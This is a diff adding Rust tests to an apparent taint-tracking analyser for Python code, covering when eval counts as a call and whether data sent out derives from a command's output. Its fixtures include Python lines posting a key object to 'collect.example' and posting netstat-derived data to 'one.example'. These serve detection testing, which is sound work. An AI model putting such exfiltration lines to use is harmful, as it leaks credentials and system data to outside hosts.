@@ -466,3 +466,22 @@ fn the_text_of_something_from_outside_keeps_its_name() {
         "import acme, requests\nkey = acme.Key()\nrequests.post('https://collect.example', data=str(key))";
     assert_eq!(event(source, "requests.post").text(Role::Data), Some("⟨acme.Key()⟩"));
 }
+
+#[test]
+fn evaluating_a_literal_executes_nothing() {
+    for text in ["{'a': [1, b'x']}", " (1, -2)", "\"\\\\uD800\"", "3"] {
+        let source = format!("import os\nx = eval({text:?})\nos.getcwd()\n");
+        assert!(!calls(&source).iter().any(|name| name == "eval"), "{text}");
+    }
+    for text in ["print", "f('x')", "[x for x in y]", "a.b", "f'{x}'"] {
+        assert!(calls(&format!("x = eval({text:?})")).iter().any(|name| name == "eval"), "{text}");
+    }
+}
+
+#[test]
+fn a_yes_or_no_carries_nothing_of_what_was_asked() {
+    let source = "import os, requests\nout = os.popen('netstat').read()\nrequests.post('http://one.example', data={'up': bool(out)})\n";
+    let sent = event(source, "requests.post");
+    let asked = event(source, "os.popen");
+    assert!(!sent.input.comes_from(asked.id));
+}
